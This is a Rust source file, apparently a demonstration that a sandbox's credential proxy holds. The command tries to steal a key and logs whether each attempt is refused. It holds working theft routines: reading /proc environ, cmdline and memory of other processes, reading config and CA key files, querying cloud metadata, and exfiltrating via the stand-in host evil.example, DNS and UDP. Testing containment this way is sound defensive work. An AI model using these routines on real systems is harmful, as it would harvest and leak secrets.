//! What the command in the sandbox does: it asks its host once, honestly, and then tries to get at the key.

use std::fs;
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use cofferdam_sandbox::layout;
use rustls::{ClientConfig, ClientConnection, StreamOwned};

use super::{Facts, NAME, Try, VARIABLE, host, tls};
use crate::exit::Exit;
use crate::failure::Failure;
use crate::output;

const PATIENCE: Duration = Duration::from_secs(5);

struct Thief {
    facts: Facts,
    token: String,
    client: Arc<ClientConfig>,
}

pub fn run(facts: &Path) -> Result<Exit, Failure> {
    let failed = |error: io::Error| Failure::new(Exit::Unavailable, format!("the demo's command: {error}"));
    let facts: Facts =
        serde_json::from_slice(&fs::read(facts).map_err(failed)?).map_err(|error| failed(error.into()))?;
    let client = tls::client(Path::new(layout::BUNDLE)).map_err(failed)?;
    let thief = Thief { facts, token: std::env::var(VARIABLE).unwrap_or_default(), client };
    let answer = thief.ask("/", &[("Authorization", &format!("Bearer {}", thief.token))]);
    let answer = answer.map_or_else(|error| error.to_string(), |answer| body(&answer));
    output::text(&format!("{}\n", answer.lines().next().unwrap_or_default()))?;
    for one in thief.tries() {
        let line = serde_json::to_string(&one).map_err(|error| failed(error.into()))?;
        output::text(&format!("{line}\n"))?;
    }
    Ok(Exit::Success)
}

impl Thief {
    fn tries(&self) -> Vec<Try> {
        vec![
            found("look into its own environment", own_environment()),
            found("look into the environment of every process", of_processes("environ")),
            found("look at every command line", of_processes("cmdline")),
            found("look into the memory of every other process", of_processes("mem")),
            found("read the configuration", read(&self.facts.state.with_file_name("config.toml"))),
            found("read the authority's key", read(&self.facts.state.join("ca/ca.key"))),
            self.echo(),
            self.refused("send the token to another host", "/", Some("evil.example"), &self.token),
            self.refused("bring a key of its own to the host", "/", None, "sk-attacker-0123456789abcdef"),
            self.in_the_query(),
            self.past_the_proxy(),
            reached("ask the cloud for its credentials", metadata()),
            reached("carry it out in a name (DNS)", lookup("key.evil.example")),
            reached("carry it out by UDP (QUIC)", datagram()),
        ]
    }

    /// A request by the name of the host, over TLS, to whatever address that has here.
    fn ask(&self, path: &str, headers: &[(&str, &str)]) -> io::Result<String> {
        let named = headers.iter().find(|(name, _)| *name == "Host").map_or(NAME, |(_, host)| host);
        let connection = std::net::ToSocketAddrs::to_socket_addrs(&(NAME, 443))?
            .find_map(|address| TcpStream::connect_timeout(&address, PATIENCE).ok());
        let stream = connection.ok_or_else(|| io::Error::other("nobody listens"))?;
        stream.set_read_timeout(Some(PATIENCE))?;
        let name = NAME.try_into().map_err(io::Error::other)?;
        let connection = ClientConnection::new(self.client.clone(), name).map_err(io::Error::other)?;
        let mut stream = StreamOwned::new(connection, stream);
        let mut request = format!("GET {path} HTTP/1.1\r\nHost: {named}\r\nConnection: close\r\n");
        for (name, value) in headers.iter().filter(|(name, _)| *name != "Host") {
            request.push_str(&format!("{name}: {value}\r\n"));
        }
        stream.write_all(format!("{request}\r\n").as_bytes())?;
        let mut answer = Vec::new();
        // A server that closes without a farewell has said all it had to say.
        let _ = stream.read_to_end(&mut answer);
        Ok(String::from_utf8_lossy(&answer).into_owned())
    }

    fn echo(&self) -> Try {
        let name = "have the host send its headers back";
        let answer = self.ask(host::ECHO, &[("Authorization", &format!("Bearer {}", self.token))]);
        match answer {
            Ok(answer) => {
                let line = body(&answer)
                    .lines()
                    .find(|line| line.to_ascii_lowercase().starts_with("authorization"))
                    .unwrap_or("without the header")
                    .to_owned();
                Try {
                    name: name.to_owned(),
                    happened: format!("came back as \u{201c}{line}\u{201d}"),
                    got: answer,
                    reached: false,
                }
            }
            Err(error) => closed(name, plain(&error)),
        }
    }

    fn refused(&self, name: &str, path: &str, host: Option<&str>, credential: &str) -> Try {
        let credential = format!("Bearer {credential}");
        let mut headers = vec![("Authorization", credential.as_str())];
        headers.extend(host.map(|host| ("Host", host)));
        judged(name, self.ask(path, &headers))
    }

    fn in_the_query(&self) -> Try {
        judged("put the token where the host would log it", self.ask(&format!("/?key={}", self.token), &[]))
    }

    fn past_the_proxy(&self) -> Try {
        let address = SocketAddr::from((Ipv4Addr::LOCALHOST, self.facts.port));
        reached("dial the host past the proxy", TcpStream::connect_timeout(&address, PATIENCE).map(|_| ()))
    }
}

/// A request that the proxy has to refuse.
fn judged(name: &str, answer: io::Result<String>) -> Try {
    match answer {
        Ok(answer) => {
            let reason = answer.lines().find_map(|line| line.strip_prefix("cofferdam-reason: "));
            match reason {
                Some(reason) => closed(name, format!("refused: {}", reason.trim())),
                None => {
                    Try { name: name.to_owned(), happened: "answered".to_owned(), got: answer, reached: true }
                }
            }
        }
        Err(error) => closed(name, plain(&error)),
    }
}

fn closed(name: &str, happened: impl Into<String>) -> Try {
    Try { name: name.to_owned(), happened: happened.into(), got: String::new(), reached: false }
}

/// Something that may be there; the key is looked for in it outside.
fn found(name: &str, (happened, got): (String, String)) -> Try {
    Try { name: name.to_owned(), happened, got, reached: false }
}

/// Something that must not be reached at all.
fn reached(name: &str, result: io::Result<()>) -> Try {
    match result {
        Ok(()) => {
            Try { name: name.to_owned(), happened: "reached".to_owned(), got: String::new(), reached: true }
        }
        Err(error) => closed(name, plain(&error)),
    }
}

fn own_environment() -> (String, String) {
    let all: Vec<String> =
        std::env::vars_os().map(|(name, value)| format!("{}={}", name.display(), value.display())).collect();
    (format!("{} variables, with a token where the key was", all.len()), all.join("\n"))
}

/// One file of every process that can be seen.
fn of_processes(file: &str) -> (String, String) {
    let processes = fs::read_dir("/proc").into_iter().flatten().flatten();
    let own = std::process::id().to_string();
    let others: Vec<_> = processes
        .filter(|entry| {
            entry.file_name().to_str().is_some_and(|name| name.bytes().all(|b| b.is_ascii_digit()))
        })
        .filter(|entry| file != "mem" || *entry.file_name() != *own)
        .collect();
    let mut got = String::new();
    for process in &others {
        let bytes = fs::read(process.path().join(file)).unwrap_or_default();
        got.push_str(&String::from_utf8_lossy(&bytes));
    }
    let happened = match others.len() {
        0 => "no other process is to be seen".to_owned(),
        1 => "its own process is all there is to see".to_owned(),
        count => format!("{count} processes, all of them the sandbox's"),
    };
    (happened, got)
}

fn read(path: &Path) -> (String, String) {
    match fs::read(path) {
        Ok(bytes) => (format!("{} bytes", bytes.len()), String::from_utf8_lossy(&bytes).into_owned()),
        Err(error) => (plain(&error), String::new()),
    }
}

fn metadata() -> io::Result<()> {
    let address = SocketAddr::from(([169, 254, 169, 254], 80));
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(
        b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n",
    )?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    match answer.lines().find_map(|line| line.strip_prefix("cofferdam-reason: ")) {
        Some(reason) => Err(io::Error::other(format!("refused: {}", reason.trim()))),
        None => Ok(()),
    }
}

fn lookup(name: &str) -> io::Result<()> {
    match std::net::ToSocketAddrs::to_socket_addrs(&(name, 443)) {
        Ok(mut found) => found.next().map(|_| ()).ok_or_else(|| io::Error::other("no address")),
        Err(_) => Err(io::Error::other("no such name, and nobody was asked")),
    }
}

fn datagram() -> io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.connect(("192.0.2.1", 443))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send(b"key").map_err(|error| io::Error::other(plain(&error)))?;
    let answered = socket.recv(&mut [0; 16]).map_err(|error| io::Error::other(plain(&error)));
    answered.map(|_| ())
}

/// An error without its number.
fn plain(error: &io::Error) -> String {
    let text = error.to_string();
    text.split(" (os error").next().unwrap_or_default().to_lowercase()
}

fn body(answer: &str) -> String {
    answer.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap_or_default()
}
